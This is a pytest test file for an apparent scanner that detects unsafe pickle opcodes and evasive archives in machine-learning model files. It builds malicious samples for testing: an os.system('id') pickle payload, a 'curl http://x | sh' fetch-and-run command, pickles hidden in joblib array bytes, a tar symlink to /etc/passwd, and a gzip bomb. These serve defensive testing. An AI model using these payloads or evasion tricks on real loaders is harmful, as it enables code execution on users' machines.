"""Which files the control lets through, and what it says of the others."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import random
import tarfile
import zipfile
from pathlib import Path

import joblib
import numpy as np
import pytest
from sklearn.datasets import load_iris
from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler
from sklearn.svm import LinearSVC
from sklearn.tree import DecisionTreeClassifier

from hauberk.controls.model.unsafe_opcodes import UnsafeOpcodes
from hauberk.core.artifact import ModelFile
from hauberk.core.control import NotApplicable
from hauberk.core.finding import Finding, Level, Outcome, Severity
from hauberk.engine import assess
from hauberk.errors import UnavailableError
from hauberk.methods.pickle_writing import blob, call, name, text, whole

PAYLOAD = whole(call(name("os.system"), text("id")))


def judged(folder: Path, data: bytes, label: str = "model.bin") -> list[Finding]:
    path = folder / label
    path.write_bytes(data)
    return list(UnsafeOpcodes().check(ModelFile(name=label, path=path)))


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for label, data in members.items():
            archive.writestr(label, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "estimator",
    [
        RandomForestClassifier(5),
        HistGradientBoostingClassifier(max_iter=3),
        make_pipeline(StandardScaler(), LogisticRegression()),
        LinearSVC(),
        DecisionTreeClassifier(),
    ],
    ids=lambda item: type(item).__name__,
)
def test_ordinary_estimators_pass_in_every_protocol(tmp_path: Path, estimator: object) -> None:
    points, labels = load_iris(return_X_y=True)
    fitted = estimator.fit(points, labels)  # type: ignore[attr-defined]
    for protocol in range(6):
        assert judged(tmp_path, pickle.dumps(fitted, protocol)) == []


@pytest.mark.parametrize(
    "compress", [0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)]
)
def test_ordinary_joblib_files_pass(tmp_path: Path, compress: object) -> None:
    value = {
        "model": LogisticRegression(),
        "names": np.array(["a", None], dtype=object),
        "x": np.eye(3),
    }
    buffer = io.BytesIO()
    joblib.dump(value, buffer, compress=compress)
    assert judged(tmp_path, buffer.getvalue()) == []


def test_ordinary_arrays_pass(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    np.savez(buffer, X=np.eye(3), y=np.array([1, "a"], dtype=object))
    assert judged(tmp_path, buffer.getvalue()) == []


def test_the_decoded_call_is_shown(tmp_path: Path) -> None:
    found = judged(tmp_path, PAYLOAD)
    assert found[0].message == "model.bin: loading it calls os.system('id')"
    assert found[0].severity is Severity.CRITICAL
    assert found[0].level is Level.DEFECT


def test_an_unknown_class_asks_for_a_review(tmp_path: Path) -> None:
    found = judged(tmp_path, whole(call(name("shop.features.Basket"), text("x"))))
    assert [(item.severity, item.level) for item in found] == [(Severity.MEDIUM, Level.REVIEW)]


def test_a_function_of_a_reviewed_library_that_is_not_listed_is_dangerous(tmp_path: Path) -> None:
    found = judged(tmp_path, whole(call(name("scipy.special.new_gadget"), text("x"))))
    assert found[0].severity is Severity.CRITICAL


def test_an_unknown_function_that_gets_a_command_is_dangerous(tmp_path: Path) -> None:
    found = judged(tmp_path, whole(call(name("shop.tools.go"), text("curl http://x | sh"))))
    assert found[0].severity is Severity.CRITICAL


def test_a_listed_class_called_in_an_unlisted_way_is_no_pass(tmp_path: Path) -> None:
    path = "sklearn.linear_model._logistic.LogisticRegression"
    assert judged(tmp_path, whole(call(name(path), text("l2"))))


def test_a_reference_alone_to_a_dangerous_name_is_refused(tmp_path: Path) -> None:
    transformer = whole(
        name("sklearn.preprocessing._function_transformer.FunctionTransformer")
        + b")\x81}"
        + text("func")
        + name("os.system")
        + b"sb"
    )
    assert judged(tmp_path, transformer)[0].severity is Severity.CRITICAL


def test_a_broken_pickle_is_high_even_without_any_call(tmp_path: Path) -> None:
    found = judged(tmp_path, pickle.dumps({"a": 1}, 4)[:-4], "model.pkl")
    assert {item.severity for item in found} == {Severity.HIGH}


def test_the_path_inside_nested_containers_is_named(tmp_path: Path) -> None:
    inner = gzip.compress(zipped({"deep/model": PAYLOAD}))
    found = judged(tmp_path, inner)
    assert found[0].location.inner == ("(gzip)", "deep/model")


def test_a_pickle_in_a_constant_of_a_pickle_is_found(tmp_path: Path) -> None:
    data = whole(call(name("torch.storage._load_from_bytes"), blob(PAYLOAD)))
    assert any(item.severity is Severity.CRITICAL for item in judged(tmp_path, data))


def test_a_pickle_behind_another_one_is_found(tmp_path: Path) -> None:
    assert judged(tmp_path, pickle.dumps(1) + pickle.dumps({}) + PAYLOAD)


def test_a_pickle_hidden_in_bytes_behind_a_pickle_is_found(tmp_path: Path) -> None:
    assert judged(tmp_path, pickle.dumps(1) + b"\x00\x01\xff" * 9 + PAYLOAD)


def test_array_bytes_of_joblib_that_pickle_load_would_run_are_found(tmp_path: Path) -> None:
    """``joblib.load`` sees harmless numbers where ``pickle.load`` sees opcodes."""
    hidden = call(name("os.system"), text("id")) + b"."
    padded = hidden + b"\0" * (-len(hidden) % 8)
    buffer = io.BytesIO()
    joblib.dump(np.frombuffer(padded, dtype="u1"), buffer)
    data = buffer.getvalue()
    start = data.index(hidden)
    length = data[start - 17 : start]
    padding = length.rstrip(b"\xff")
    # Without alignment bytes the array begins right behind BUILD.
    data = data.replace(b"numpy_array_alignment_bytes", b"numpy_array_alignment_bytez")
    at = data.index(hidden) - (len(length) - len(padding)) - 1
    data = data[:at] + data[data.index(hidden) :]
    assert any(item.severity is Severity.CRITICAL for item in judged(tmp_path, data))


def test_a_torch_archive_is_read_without_its_tensors(tmp_path: Path) -> None:
    storage = b"Q" * 5000
    body = call(
        name("torch._utils._rebuild_tensor_v2"),
        b"(" + text("storage") + name("torch.FloatStorage") + text("0") + text("cpu") + b"K\x04tQ",
        b"K\x00", b"K\x02\x85", b"K\x01\x85", b"\x89", call(name("collections.OrderedDict")),
    )  # fmt: skip
    archive = zipped({"m/data.pkl": whole(body, 2), "m/data/0": storage, "m/version": b"3\n"}, 0)
    assert judged(tmp_path, archive) == []


def test_two_members_of_one_name_are_evasive(tmp_path: Path) -> None:
    data = zipped({"m": pickle.dumps(1), "n": pickle.dumps(2)}).replace(b"n", b"m")
    assert judged(tmp_path, data)[0].severity is Severity.HIGH


def test_a_member_with_two_names_is_evasive(tmp_path: Path) -> None:
    data = zipped({"model.pkl": pickle.dumps(1)}, 0).replace(b"model.pkl", b"other.pkl", 1)
    assert "one name" in judged(tmp_path, data)[0].message


def test_links_out_of_a_tar_archive_are_evasive(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        link = tarfile.TarInfo("weights")
        link.type, link.linkname = tarfile.SYMTYPE, "../../etc/passwd"
        archive.addfile(link)
        plain = tarfile.TarInfo("m")
        plain.size = len(pickle.dumps(1))
        archive.addfile(plain, io.BytesIO(pickle.dumps(1)))
    assert "link" in judged(tmp_path, buffer.getvalue())[0].message


def test_a_bomb_is_flagged_and_not_unpacked(tmp_path: Path) -> None:
    data = gzip.compress(bytes(160 << 20), 1)
    path = tmp_path / "bomb.gz"
    path.write_bytes(data)
    assessment = assess(UnsafeOpcodes(), ModelFile(name="bomb", path=path))
    assert assessment.outcome is Outcome.FLAGGED


def test_nesting_is_bounded(tmp_path: Path) -> None:
    data = pickle.dumps(1)
    for _ in range(20):
        data = zipped({"x": data})
    assert "levels" in judged(tmp_path, data)[0].message


@pytest.mark.parametrize(
    "data",
    [b"7z\xbc\xaf\x27\x1c" + bytes(99), b"", random.Random(1).randbytes(500)],
    ids=["7z", "empty", "random"],
)
def test_what_cannot_be_read_is_an_error_and_never_a_pass(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(UnavailableError, match="could not be assessed"):
        judged(tmp_path, data)


def test_a_dangerous_pickle_inside_an_unread_format_is_still_refused(tmp_path: Path) -> None:
    path = tmp_path / "m.7z"
    path.write_bytes(b"7z\xbc\xaf\x27\x1c" + bytes(99) + PAYLOAD)
    assessment = assess(UnsafeOpcodes(), ModelFile(name="m", path=path))
    assert assessment.outcome is Outcome.FLAGGED
    assert assessment.findings[0].severity is Severity.CRITICAL


def test_a_missing_file_cannot_be_assessed(tmp_path: Path) -> None:
    with pytest.raises(UnavailableError):
        list(UnsafeOpcodes().check(ModelFile(name="m", path=tmp_path / "none")))


def test_text_is_no_model(tmp_path: Path) -> None:
    with pytest.raises(NotApplicable):
        judged(tmp_path, b"cost\nof living\n", "notes.bin")


def test_text_under_a_name_of_weights_is_not_assessed(tmp_path: Path) -> None:
    with pytest.raises(UnavailableError, match="text, and no model"):
        judged(tmp_path, b"cost\nof living\n", "model.bin")


def test_a_safetensors_header_that_lies_is_evasive(tmp_path: Path) -> None:
    header = b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[8,24]}}'
    found = judged(tmp_path, len(header).to_bytes(8, "little") + header + bytes(24))
    assert "overlap" in found[0].message


def test_a_plain_safetensors_file_passes(tmp_path: Path) -> None:
    header = b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'
    assert judged(tmp_path, len(header).to_bytes(8, "little") + header + bytes(16)) == []


def test_the_template_that_scipy_runs_is_read(tmp_path: Path) -> None:
    from scipy import stats

    assert judged(tmp_path, pickle.dumps(stats.loguniform(1e-3, 1))) == []


def test_a_payload_before_endless_padding_is_still_told(tmp_path: Path) -> None:
    path = tmp_path / "m.pkl"
    path.write_bytes(PAYLOAD[:-1] + b"0" + b"N0" * 60_000 + b"N.")
    assessment = assess(UnsafeOpcodes(max_opcodes=100_000), ModelFile(name="m", path=path))
    assert assessment.outcome is Outcome.FLAGGED
    assert assessment.findings[0].severity is Severity.CRITICAL


def test_states_that_are_set_again_and_again_cost_no_more_than_the_budget(tmp_path: Path) -> None:
    many = b"".join(text(f"k{i}") + b"N" for i in range(1000))
    made = call(name("types.SimpleNamespace")) + b"q\x000(" + many + b"dq\x010"
    path = tmp_path / "m.pkl"
    path.write_bytes(b"\x80\x04" + made + b"h\x00" + b"h\x01b" * 2_000 + b".")
    assert (
        assess(UnsafeOpcodes(max_opcodes=200_000), ModelFile(name="m", path=path)).outcome
        is Outcome.FAILED
    )


def skops(*names: tuple[str, str]) -> bytes:
    nodes = [
        {"__module__": module, "__class__": name, "__loader__": "ObjectNode"}
        for module, name in names
    ]
    return zipped({"schema.json": json.dumps({"content": nodes, "protocol": 2}).encode()})


def test_names_in_a_skops_schema_are_held_against_the_list(tmp_path: Path) -> None:
    forest = ("sklearn.ensemble._forest", "RandomForestClassifier")
    assert judged(tmp_path, skops(forest, ("builtins", "dict"))) == []
    assert (
        judged(tmp_path, skops(forest, ("operator", "methodcaller")))[0].severity
        is Severity.CRITICAL
    )
    assert judged(tmp_path, skops(("shop.models", "Basket")))[0].level is Level.REVIEW
